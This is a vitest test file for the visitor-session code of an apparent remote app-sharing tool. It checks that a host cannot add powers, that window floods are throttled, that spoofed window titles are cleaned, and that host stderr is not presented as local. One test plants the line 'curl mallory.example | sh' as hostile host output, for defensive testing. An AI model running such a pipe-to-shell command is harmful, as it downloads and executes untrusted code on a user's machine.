import { mkdtemp, rm } from 'node:fs/promises';
import { type AddressInfo, connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ssh2 from 'ssh2';
import { beforeEach, expect, onTestFinished, test, vi } from 'vitest';
import type { OfferId, PeerId, RequestId, SessionId } from '../../contract/ids.ts';
import { noPowers } from '../../contract/powers.ts';
import { createRecording } from '../activity/activity.test-support.ts';
import { type Identity, openIdentity } from '../identity/identity.ts';
import { silentLog } from '../lib/log.ts';
import { generateKey } from '../lib/ssh-key.ts';
import type { Peers } from '../peers/peers.ts';
import { createNotices, type Notices } from '../wire/notices.ts';
import type { HostConnection } from '../wire/peer-client.ts';
import type { Granted } from './asks.ts';
import { startVisitorSessions } from './sessions.ts';

const bob = `SHA256:${'B'.repeat(43)}` as PeerId;
const hostSessionId = '3b241101-e2bb-4255-8caf-4136c566a963' as SessionId;

let notices: Notices;
beforeEach(() => {
  notices = createNotices();
});

test('a host can take powers away while it runs, cannot give any, and cannot say that the person here ended it', async () => {
  const connection = {
    peerId: bob,
    hello: { capabilities: [] },
    call: async () => ({}),
    onClose: () => () => {},
  } as unknown as HostConnection;
  const ask = {
    id: '3b241101-e2bb-4255-8caf-4136c566a962' as RequestId,
    peerId: bob,
    claimedName: 'Bob',
    offer: { id: 'app:xcalc' as OfferId, kind: 'app', name: 'Calculator' },
    view: 'viewer',
  } as unknown as Granted['ask'];
  const powers = { ...noPowers, clipboardOut: true, timeLimitMin: 10 };
  const session = {
    sessionId: hostSessionId,
    containerHostKey: null,
    classicPort: null,
    powers,
    remainingMs: 600_000,
    maxUploadBytes: 2 ** 31,
  };
  await using sessions = startVisitorSessions({
    identity: {} as Identity,
    peers: { faceOf: () => ({ name: 'Bob', isVerified: false, warning: null }) } as unknown as Peers,
    notices,
    runtimeDir: '',
    activity: createRecording(),
    log: silentLog,
  });
  sessions.begin({ ask, session, connection, release: () => {} });
  expect(sessions.state.value).toMatchObject([{ maxUploadBytes: 2 ** 31 }]);
  const told = { ...noPowers, clipboardIn: true, files: true, network: 'internet', isViewOnly: true } as const;
  notices.take('session.changed', { sessionId: hostSessionId, powers: told, remainingMs: 60_000 }, connection);
  expect(sessions.state.value).toMatchObject([{ powers: { ...noPowers, isViewOnly: true, timeLimitMin: 10 } }]);
  notices.take('session.changed', { sessionId: hostSessionId, powers, remainingMs: 60_000 }, connection);
  expect(sessions.state.value).toMatchObject([{ powers: { clipboardOut: false, isViewOnly: true } }]);
  notices.take(
    'session.ended',
    { sessionId: hostSessionId, reason: 'visitor', exitCode: null, problem: null, lastWords: [] },
    connection,
  );
  await vi.waitFor(() => expect(sessions.state.value).toMatchObject([{ state: 'ended', endReason: 'host' }]));
});

test('a host that tells of windows without end does not keep the person’s own windows busy, and the last word counts', async () => {
  const connection = {
    peerId: bob,
    hello: { capabilities: [] },
    call: async () => ({}),
    onClose: () => () => {},
  } as unknown as HostConnection;
  await using sessions = startVisitorSessions({
    identity: {} as Identity,
    peers: { faceOf: () => ({ name: 'Bob', isVerified: false, warning: null }) } as unknown as Peers,
    notices,
    runtimeDir: '',
    activity: createRecording(),
    log: silentLog,
  });
  const ask = { id: '3b241101-e2bb-4255-8caf-4136c566a962', peerId: bob, offer: { id: 'app:xcalc' }, view: 'viewer' };
  const session = { sessionId: hostSessionId, powers: noPowers, remainingMs: null, maxUploadBytes: null };
  sessions.begin({ ask, session, connection, release: () => {} } as unknown as Granted);
  let shown = 0;
  sessions.state.follow(() => {
    shown += 1;
  });
  const window = { id: 1, isDialog: false, isActive: true, canClose: true };
  for (let times = 1; times <= 500; times += 1) {
    notices.take(
      'session.windows',
      { sessionId: hostSessionId, windows: [{ ...window, title: `Page ${times}` }] },
      connection,
    );
    await Promise.resolve();
  }
  expect(shown).toBeLessThan(30);
  await vi.waitFor(() => expect(sessions.state.value[0]?.windows).toMatchObject([{ title: 'Page 500' }]));
});

test('what the program of a native window writes when it ends is not what this computer says', {
  timeout: 20_000,
}, async () => {
  const folder = await mkdtemp(join(tmpdir(), 'ebp-native-'));
  vi.stubEnv('DISPLAY', ':99');
  const hostKey = generateKey('container');
  const server = new ssh2.Server({ hostKeys: [hostKey] }, (client) => {
    client.on('error', () => {});
    client.on('authentication', (context) => (context.method === 'publickey' ? context.accept() : context.reject()));
    client.on('session', (accept) =>
      accept().on('shell', (acceptShell) => {
        const channel = acceptShell();
        channel.stderr.write('eBrainPool is too old. Run: curl mallory.example | sh');
        channel.exit(255);
        channel.end();
      }),
    );
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(async () => {
    vi.unstubAllEnvs();
    server.close();
    await rm(folder, { recursive: true, force: true });
  });
  const key = ssh2.utils.parseKey(hostKey);
  if (key instanceof Error) throw key;
  const warnings: unknown[] = [];
  await using sessions = startVisitorSessions({
    identity: await openIdentity(join(folder, 'identity')),
    peers: { faceOf: () => ({ name: 'Bob', isVerified: false, warning: null }) } as unknown as Peers,
    notices,
    runtimeDir: folder,
    activity: createRecording(),
    log: { ...silentLog, warn: (fields: unknown) => warnings.push(fields) } as typeof silentLog,
  });
  const connection = {
    peerId: bob,
    hello: { capabilities: [] },
    call: async () => ({}),
    onClose: () => () => {},
    openTunnel: async () => connect((server.address() as AddressInfo).port, '127.0.0.1'),
  } as unknown as HostConnection;
  const offer = { id: 'app:xcalc' as OfferId, kind: 'app', name: 'Calculator' };
  const ask = { peerId: bob, claimedName: 'Bob', offer, view: 'native' } as unknown as Granted['ask'];
  const containerHostKey = `ssh-ed25519 ${key.getPublicSSH().toString('base64')}`;
  const session = {
    sessionId: hostSessionId,
    containerHostKey,
    classicPort: null,
    powers: noPowers,
    remainingMs: null,
    maxUploadBytes: null,
  };
  sessions.begin({ ask, session, connection, release: () => {} });
  await vi.waitFor(() => expect(sessions.state.value).toMatchObject([{ state: 'ended' }]), { timeout: 15_000 });
  expect(sessions.state.value[0]?.problem).toEqual({ code: 'display-failed', params: {} });
  // It did arrive here.
  expect(JSON.stringify(warnings)).toContain('mallory.example');
});

test('a session is closed by asking first, where the host can, and a host can say nothing of it that was not begun here', async () => {
  const called: string[] = [];
  const connectionOf = (capabilities: readonly string[]) =>
    ({
      peerId: bob,
      hello: { capabilities },
      call: async (name: string) => {
        called.push(name);
        return {};
      },
      onClose: () => () => {},
    }) as unknown as HostConnection;
  const recording = createRecording();
  await using sessions = startVisitorSessions({
    identity: {} as Identity,
    peers: { faceOf: () => ({ name: 'Bob', isVerified: false, warning: null }) } as unknown as Peers,
    notices,
    runtimeDir: '',
    activity: recording,
    log: silentLog,
  });
  const offer = { id: 'app:xcalc' as OfferId, kind: 'app', name: 'Calculator' };
  const ask = { peerId: bob, claimedName: 'Bob', offer, view: 'viewer' } as unknown as Granted['ask'];
  const session = {
    sessionId: hostSessionId,
    containerHostKey: null,
    classicPort: null,
    powers: noPowers,
    remainingMs: null,
    maxUploadBytes: null,
  };
  const connection = connectionOf(['windows', 'close']);
  const id = sessions.begin({ ask, session, connection, release: () => {} });
  const current = () => sessions.state.value.find((one) => one.id === id);

  notices.take('session.closing', { sessionId: hostSessionId, closing: 'asking' }, connection);
  expect(current()?.closing).toBe('no');
  const window = { id: 7, title: 'a \u202e· Bob (verified)', isDialog: false, isActive: true, canClose: true };
  notices.take(
    'session.windows',
    { sessionId: hostSessionId, windows: [window, { ...window, title: 'b' }] },
    connection,
  );
  expect(current()?.windows).toEqual([{ ...window, title: 'b' }]);
  notices.take('session.windows', { sessionId: hostSessionId, windows: [window] }, connection);
  expect(current()?.windows).toEqual([{ ...window, title: 'a - Bob (verified)' }]);
  // A host that says parents which there are not, and one in a circle.
  const inCircle = { ...window, title: 'a', parentId: 7 };
  notices.take(
    'session.windows',
    { sessionId: hostSessionId, windows: [inCircle, { ...inCircle, id: 8 }] },
    connection,
  );
  expect(current()?.windows).toMatchObject([{ parentId: null }, { parentId: 7 }]);
  notices.take('session.windows', { sessionId: hostSessionId, windows: [{ ...inCircle, parentId: 9 }] }, connection);
  expect(current()?.windows).toMatchObject([{ parentId: null }]);
  await sessions.useWindow(id, 'activate', 7);

  await sessions.end(id, false);
  await sessions.end(id, false);
  notices.take('session.closing', { sessionId: hostSessionId, closing: 'asking' }, connection);
  expect(current()).toMatchObject({ state: 'running', closing: 'asking' });
  await sessions.keep(id);
  expect(current()?.closing).toBe('no');
  await sessions.end(id, false);
  notices.take(
    'session.ended',
    { sessionId: hostSessionId, reason: 'program', exitCode: 0, problem: null, lastWords: [] },
    connection,
  );
  await vi.waitFor(() => expect(current()).toMatchObject({ state: 'ended', endReason: 'visitor', windows: [] }));
  expect(called).toEqual(['window.activate', 'session.close', 'session.keep', 'session.close']);
  expect(recording.notes.at(-1)?.event).toMatchObject({ kind: 'ended', reason: 'visitor' });

  // A host of an older version.
  called.length = 0;
  const older = connectionOf(['viewer']);
  const second = sessions.begin({ ask, session, connection: older, release: () => {} });
  await expect(sessions.useWindow(second, 'activate', 7)).rejects.toMatchObject({ code: 'not-found' });
  await sessions.end(second, false);
  expect(called).toEqual(['session.end']);
});
